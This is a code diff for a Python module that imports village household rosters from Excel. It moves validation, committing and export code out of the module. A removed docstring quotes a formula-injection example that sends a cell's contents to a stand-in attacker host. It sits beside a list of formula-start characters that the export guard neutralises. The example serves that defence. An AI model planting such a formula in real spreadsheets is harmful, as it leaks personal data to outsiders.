@@ -1,83 +1,54 @@
-"""花名册导入 — import households and residents from an Excel roster (.xlsx).
+"""花名册 — reading an Excel roster (.xlsx): the file checks, the rows, the column mapping.
 
 The reading half serves every roster the station imports: a :class:`RosterSpec`
 names a roster's fields, the header words that identify each, and the fields a
 mapping must include — :data:`HOUSEHOLDS` here, the volunteers' roster in
 :mod:`app.services.volunteer_roster`.  The checking and committing halves are
-per roster; the households' are in this module.
+per roster; the households' are in :mod:`.roster_import`.  The checks every
+roster's rows share (dates, formulas with no value, birth dates, village
+groups) are here too.
 
-Three steps, so nothing is written until the person confirms:
-
-1. :func:`read_roster` first checks the file as a zip without parsing it
-   (:func:`app.services.xlsx_safety.check_xlsx`: unpacked sizes, packing
-   ratio, DTDs and entities, counts of strings, merges, rows and cells — a
-   roster is hostile input), then streams its rows with openpyxl's parser in
-   one pass under a time limit, finds the header row among the first rows,
-   and suggests a column mapping from the header text (for households 姓名,
-   户号, 与户主关系, 身份证号, 联系电话, 村民小组, 住址, 性别, 出生日期).  A cell
-   whose formula was never computed (a file written by a program, not saved
-   by Excel) is told from an empty cell by its ``<f>`` element.  The largest
-   roster allowed (50,000 rows) reads in about 5–10 s within about 110 MB
-   (tests/benchmarks/bench_roster_import.py).
-2. :func:`validate_rows` turns each row into a :class:`RowResult` with every
-   problem found (missing name, bad or Excel-mangled ID number, bad phone,
-   duplicate of a registered resident or of another row, unknown group, two
-   heads...).  The view shows them; the mapping can be changed and the rows
-   validated again.
-3. :func:`commit_import` writes the valid rows in ONE transaction: a new
-   household per unknown 户号 (its 户主 row, or else its first row, is the
-   head) and members added to existing households.
+:func:`read_roster` first checks the file as a zip without parsing it
+(:func:`app.services.xlsx_safety.check_xlsx`: unpacked sizes, packing ratio,
+DTDs and entities, counts of strings, merges, rows and cells — a roster is
+hostile input), then streams its rows with openpyxl's parser in one pass under
+a time limit, finds the header row among the first rows, and suggests a column
+mapping from the header text (for households 姓名, 户号, 与户主关系, 身份证号,
+联系电话, 村民小组, 住址, 性别, 出生日期).  A cell whose formula was never
+computed (a file written by a program, not saved by Excel) is told from an
+empty cell by its ``<f>`` element.  The largest roster allowed (50,000 rows)
+reads in about 5–10 s within about 110 MB
+(tests/benchmarks/bench_roster_import.py).
 
 Rosters often merge a cell over several rows (the 户号 over a household's
 rows, a 志愿服务队 over its members).  openpyxl's streaming reader does not
 report merges, and a merged cell reads as empty below its first row, so
 :func:`read_roster` finds the sheet's ``<mergeCell>`` ranges in its XML and
-fills each vertical merge's value down its first column
-(:attr:`RawRow.merged` says which cells were filled).  For households an empty
-户号 under a non-empty one also means "same household" (fill-down), merged or
-not.
-
-:func:`write_xlsx` is the export counterpart: a streamed (``write_only``)
-sheet written under a temporary name and renamed, so an interrupted export
-never leaves a half file under the chosen name.
+fills each vertical merge's value down its first column (:attr:`RawRow.merged`
+says which cells were filled).
 """
 
 from __future__ import annotations
 
-import contextlib
 import re
 import zipfile
-from collections.abc import Iterable, Iterator, Mapping, Sequence
+from collections.abc import Iterator, Mapping, Sequence
 from dataclasses import dataclass, field
 from datetime import date, datetime
 from pathlib import Path
 from typing import Any, Protocol
 
-from sqlalchemy import select
-
-from app.db import Database
-from app.errors import DomainError, ValidationError
+from app.errors import ValidationError
 from app.i18n import QT_TRANSLATE_NOOP, translate
-from app.models import Household, Member
-from app.progress import Cancel, ProgressFn, check, report
-from app.services import audit, households, personal
-from app.services.auth import Actor, Permission, require
-from app.services.households import (
-    HEAD_RELATION,
-    HouseholdData,
-    HouseholdFilter,
-    HouseholdHit,
-    MemberData,
-)
 from app.services.xlsx_safety import MAX_MERGES, Deadline, RosterError, check_xlsx, damaged
 
 __all__ = ["RosterError"]  # raised by every reading step (defined with the file checks)
+
 
 MAX_ROWS = 50_000
 HEADER_SCAN_ROWS = 20
 MAX_COLUMNS = 100
 MAX_CELL_CHARS = 2_000  # an address or a note; a longer cell is not a roster's
-
 FIELDS = (
     "number",
     "name",
@@ -89,6 +60,8 @@ FIELDS = (
     "sex",
     "birth_date",
 )
+
+
 # header words per field, best first; a header matches exactly, or else contains one
 HEADER_WORDS: dict[str, tuple[str, ...]] = {
     "number": ("户号", "户编号", "户籍编号", "户主编号"),
@@ -185,32 +158,6 @@ class CheckedRow(Protocol):
 
     @property
     def ok(self) -> bool: ...
-
-
-@dataclass(frozen=True)
-class RowResult:
-    row_no: int
-    number: str
-    name: str
-    relation: str
-    group_name: str
-    address: str
-    member: MemberData | None  # None when the row has problems
-    problems: tuple[RowProblem, ...] = ()
-    fill_down: bool = False  # the 户号 came from the row above (merged cell)
-
-    @property
-    def ok(self) -> bool:
-        return not self.problems
-
-
-@dataclass(frozen=True)
-class ImportCounts:
-    households_created: int
-    members_added: int
-
-
-# --- reading -----------------------------------------------------------------------------
 
 
 def cell_text(value: Any) -> str:
@@ -600,9 +547,6 @@ def read_roster(
     return RosterPreview(path, names, sheet, header_row, headers, chosen, tuple(rows))
 
 
-# --- validating -----------------------------------------------------------------------------
-
-
 def parse_date(value: Any) -> date | None:
     """A date cell, or text like 1990-01-31 / 1990年1月31日 / 19900131; raises ValueError."""
     if value is None or value == "":
@@ -677,395 +621,3 @@ def group_problem(group: str, allowed: set[str] | None) -> list[RowProblem]:
             {"group": group},
         )
     ]
-
-
-def validate_rows(
-    db: Database,
-    preview: RosterPreview,
-    mapping: dict[str, int] | None = None,
-    groups: Sequence[str] | None = None,
-) -> list[RowResult]:
-    """Check every row; nothing is written.  *groups*: the allowed 村民小组, if known."""
-    mapping = dict(preview.mapping if mapping is None else mapping)
-    HOUSEHOLDS.check_mapping(mapping)
-    allowed = {g.strip() for g in groups} if groups is not None else None
-    with db.read() as session:
-        existing = {
-            n: h
-            for n, h in session.execute(
-                select(Household.number, Household.head_member_id).where(
-                    Household.deleted.is_(False)
-                )
-            )
-        }
-        key = personal.hash_key(session, create=False)
-        known_hashes: dict[str, str] = {}
-        if key is not None:
-            known_hashes = {
-                h: name
-                for h, name in session.execute(
-                    select(Member.id_hash, Member.name).where(
-                        Member.id_hash != "", Member.active.is_(True)
-                    )
-                )
-            }
-
-    results: list[RowResult] = []
-    seen_ids: dict[str, int] = {}
-    heads: dict[str, int] = {}
-    last_number = ""
-    for raw in preview.rows:
-        get = cell_getter(raw, mapping)
-        problems = formula_problems(preview, raw, mapping)
-        number = cell_text(get("number")).upper()
-        fill_down = mapping["number"] in raw.merged
-        if not number and last_number:
-            number, fill_down = last_number, True
-        if not number:
-            problems.append(
-                RowProblem(
-                    "number", QT_TRANSLATE_NOOP("errors", "The household number (户号) is missing.")
-                )
-            )
-        elif len(number) > 20 or any(c.isspace() for c in number):
-            problems.append(
-                RowProblem(
-                    "number",
-                    QT_TRANSLATE_NOOP(
-                        "errors", "A household number has 1–20 characters without spaces."
-                    ),
-                )
-            )
-        last_number = number or last_number
-        name = " ".join(cell_text(get("name")).split())
-        relation = cell_text(get("relation"))
-        group = cell_text(get("group_name"))
-        address = cell_text(get("address"))
-        problems += group_problem(group, allowed)
-        birth, birth_problems = birth_date_problem(get("birth_date"))
-        problems += birth_problems
-        id_value = get("id_number")
-        id_text = id_value if isinstance(id_value, int | float) else cell_text(id_value)
-        member_data = MemberData(
-            name=name,
-            relation=relation,
-            sex=cell_text(get("sex")),
-            birth_date=birth,
-            id_number=id_text if id_text not in ("", None) else "",  # type: ignore[arg-type]
-            phone=cell_text(get("phone")),
-        )
-        clean = None
-        try:
-            clean = households.clean_member(member_data)
-        except ValidationError as err:
-            problems.append(RowProblem("member", err.message, err.kwargs))
-        if clean is not None and clean.id_number:
-            if key is not None:
-                h = personal.keyed_hash(key, "id", clean.id_number)
-                if h in known_hashes:
-                    problems.append(
-                        RowProblem(
-                            "id_number",
-                            QT_TRANSLATE_NOOP(
-                                "errors", "This person is already registered (as {name})."
-                            ),
-                            {"name": known_hashes[h]},
-                        )
-                    )
-            if clean.id_number in seen_ids:
-                problems.append(
-                    RowProblem(
-                        "id_number",
-                        QT_TRANSLATE_NOOP("errors", "The same ID number is already on row {row}."),
-                        {"row": seen_ids[clean.id_number]},
-                    )
-                )
-            else:
-                seen_ids[clean.id_number] = raw.row_no
-        if relation == HEAD_RELATION and number:
-            if number in existing:
-                problems.append(
-                    RowProblem(
-                        "relation",
-                        QT_TRANSLATE_NOOP(
-                            "errors", "Household {number} is already registered with its head."
-                        ),
-                        {"number": number},
-                    )
-                )
-            elif number in heads:
-                problems.append(
-                    RowProblem(
-                        "relation",
-                        QT_TRANSLATE_NOOP(
-                            "errors", "Household {number} already has its head on row {row}."
-                        ),
-                        {"number": number, "row": heads[number]},
-                    )
-                )
-            else:
-                heads[number] = raw.row_no
-        results.append(
-            RowResult(
-                raw.row_no,
-                number,
-                name,
-                relation,
-                group,
-                address,
-                member_data if not problems else None,
-                tuple(problems),
-                fill_down,
-            )
-        )
-    return results
-
-
-# --- committing -------------------------------------------------------------------------
-
-
-IMPORT_CHUNK = 500  # households per transaction: the counter waits for one chunk at most
-
-
-def commit_import(
-    db: Database,
-    actor: Actor,
-    rows: Sequence[RowResult],
-    progress: ProgressFn | None = None,
-    cancel: Cancel | None = None,
-) -> ImportCounts:
-    """Write the confirmed, valid *rows*, :data:`IMPORT_CHUNK` households per transaction.
-
-    A roster of 40,000 rows is one long write; in one transaction it would hold
-    the database for half a minute while a villager waits at the counter.  In
-    chunks, the counter and the kiosk take their turn between two chunks
-    (see the write lane in :mod:`app.db`).  A row refused half-way (rare: the
-    rows were checked before) stops the import there; the households already
-    written stay, and importing the same file again shows them as already there.
-    *progress(done, total)* counts households after each chunk; *cancel* is polled
-    before each chunk (:class:`~app.progress.Cancelled`: the chunks
-    before it stay, as after a refused row).
-    """
-    require(actor, Permission.DAILY_WORK)
-    if any(not r.ok or r.member is None for r in rows):
-        raise ValidationError(
-            QT_TRANSLATE_NOOP("errors", "Only rows without problems can be imported.")
-        )
-    if not rows:
-        raise ValidationError(QT_TRANSLATE_NOOP("errors", "There are no rows to import."))
-    by_number: dict[str, list[RowResult]] = {}
-    for r in rows:
-        by_number.setdefault(r.number, []).append(r)
-    groups = list(by_number.items())
-    created = added = 0
-    with db.busy_with(translate("errors", "a roster import")):
-        for start in range(0, len(groups), IMPORT_CHUNK):
-            check(cancel)
-            chunk = groups[start : start + IMPORT_CHUNK]
-            try:
-                made, joined = _import_chunk(db, actor, chunk, start, len(groups))
-            except _RowRefused as refused:
-                if start == 0:
-                    raise ValidationError(
-                        QT_TRANSLATE_NOOP("errors", "Row {row}: {problem} Nothing was imported."),
-                        row=refused.row_no,
-                        problem=refused.problem,
-                    ) from refused
-                raise ValidationError(
-                    QT_TRANSLATE_NOOP(
-                        "errors",
-                        "Row {row}: {problem} The {done} households before it were imported; "
-                        "import the file again after fixing that row (they will show as "
-                        "already there).",
-                    ),
-                    row=refused.row_no,
-                    problem=refused.problem,
-                    done=start,
-                ) from refused
-            created += made
-            added += joined
-            report(progress, start + len(chunk), len(groups))
-    return ImportCounts(created, created + added)
-
-
-class _RowRefused(Exception):
-    def __init__(self, row_no: int, problem: str) -> None:
-        super().__init__(problem)
-        self.row_no, self.problem = row_no, problem
-
-
-def _import_chunk(
-    db: Database,
-    actor: Actor,
-    chunk: Sequence[tuple[str, list[RowResult]]],
-    start: int,
-    total: int,
-) -> tuple[int, int]:
-    created = added = 0
-    with db.write() as session:
-        for number, group in chunk:
-            row = group[0]
-            try:
-                household = session.scalar(
-                    select(Household).where(
-                        Household.number == number, Household.deleted.is_(False)
-                    )
-                )
-                members = list(group)
-                if household is None:
-                    head = next((r for r in members if r.relation == HEAD_RELATION), members[0])
-                    members.remove(head)
-                    row = head
-                    assert head.member is not None
-                    household = households.add_household(
-                        session,
-                        actor,
-                        HouseholdData(
-                            number=number, group_name=head.group_name, address=head.address
-                        ),
-                        head.member,
-                    )
-                    created += 1
-                for row in members:
-                    assert row.member is not None
-                    clean = households.clean_member(row.member)
-                    if clean.relation == HEAD_RELATION:
-                        clean = households.replace_relation(clean, "")
-                    households.insert_member(session, household, clean)
-                    added += 1
-            except DomainError as err:
-                raise _RowRefused(row.row_no, str(err)) from err
-        audit.record(
-            session,
-            actor,
-            "roster.import",
-            "household",
-            "",
-            after={
-                "households_created": created,
-                "members_added": added,
-                "rows": sum(len(g) for _n, g in chunk),
-                "part": f"{start + 1}-{start + len(chunk)} / {total}",
-            },
-        )
-    return created, added
-
-
-# --- exporting ----------------------------------------------------------------------------
-
-
-# what Excel, WPS and LibreOffice may take as the start of a formula (or DDE command)
-FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
-
-
-def xlsx_row(ws: Any, values: Iterable[Any]) -> list[Any]:
-    """*values* as cells for ``ws.append`` of the write-only sheet *ws*, every text a text.
-
-    openpyxl writes a string beginning with ``=`` as a live formula, so a name
-    like ``=HYPERLINK("http://evil.example/?d="&A2,"x")`` would run when the
-    export is opened (formula injection).  Every ``str`` becomes a cell of
-    type ``s`` (a shared string, never a formula or an error code); one that
-    begins like a formula (:data:`FORMULA_STARTS`) also gets the ``quotePrefix``
-    style, which Excel and WPS show as text and keep as text when the cell is
-    edited.  The text itself is unchanged (but for control characters, which
-    XML cannot hold).  Every xlsx the program writes goes
-    through here (:func:`write_xlsx`).
-    """
-    from openpyxl.cell import WriteOnlyCell
-    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
-
-    out: list[Any] = []
-    for value in values:
-        if isinstance(value, str):
-            # control characters cannot be in the sheet's XML; openpyxl would raise
-            cell = WriteOnlyCell(ws, ILLEGAL_CHARACTERS_RE.sub("", value))
-            cell.data_type = "s"
-            if value.startswith(FORMULA_STARTS):
-                cell.quotePrefix = True
-            out.append(cell)
-        else:
-            out.append(value)
-    return out
-
-
-def write_xlsx(
-    path: Path | str,
-    sheet: str,
-    header: Sequence[str],
-    rows: Iterable[Sequence[Any]],
-) -> int:
-    """Stream *rows* under *header* into a new workbook at *path*; returns the row count.
-
-    openpyxl's ``write_only`` mode keeps memory flat however long *rows* is; the
-    file is written as ``<path>.part`` and renamed when complete, and a failure
-    (or a cancel raised by the *rows* iterator) removes the partial file.
-    """
-    from openpyxl import Workbook
-
-    path = Path(path)
-    wb = Workbook(write_only=True)
-    ws = wb.create_sheet(sheet)
-    ws.append(xlsx_row(ws, header))
-    count = 0
-    tmp = path.with_suffix(path.suffix + ".part")
-    try:
-        for row in rows:
-            ws.append(xlsx_row(ws, row))
-            count += 1
-        wb.save(tmp)
-        tmp.replace(path)
-    except BaseException:
-        if not ws.closed:
-            with contextlib.suppress(Exception):
-                ws.close()  # ends openpyxl's row generator and its temporary sheet file
-        tmp.unlink(missing_ok=True)
-        raise
-    return count
-
-
-# --- export -----------------------------------------------------------------------------
-
-
-HOUSEHOLD_EXPORT_HEADER = ("户号", "户主", "村民小组", "联系电话", "积分", "状态")
-
-
-def _export_row(h: HouseholdHit) -> list[Any]:
-    return [
-        h.number,
-        h.head_name,
-        h.group_name,
-        h.phone_masked,
-        h.balance,
-        "在册" if h.active else "已注销",
-    ]
-
-
-def export_households_xlsx(
-    db: Database,
-    flt: HouseholdFilter,
-    path: Path,
-    progress: ProgressFn | None = None,
-    cancel: Cancel | None = None,
-) -> int:
-    """The list (masked phones) to an .xlsx file, page by page; returns the row count."""
-    total = households.count_households(db, flt)
-
-    def rows() -> Iterator[list[Any]]:
-        done = 0
-        while done < total:
-            if cancel is not None:
-                cancel.check()
-            page = households.fetch_households(db, done, 1000, flt)
-            if not page:
-                break
-            yield from (_export_row(h) for h in page)
-            done += len(page)
-            if progress is not None:
-                progress(done, total)
-
-    return write_xlsx(path, "户籍", HOUSEHOLD_EXPORT_HEADER, rows())
-
-
-def export_household_hits_xlsx(hits: list[HouseholdHit], path: Path) -> int:
-    """The households found by a search (masked phones) to an .xlsx file."""
-    return write_xlsx(path, "户籍", HOUSEHOLD_EXPORT_HEADER, (_export_row(h) for h in hits))
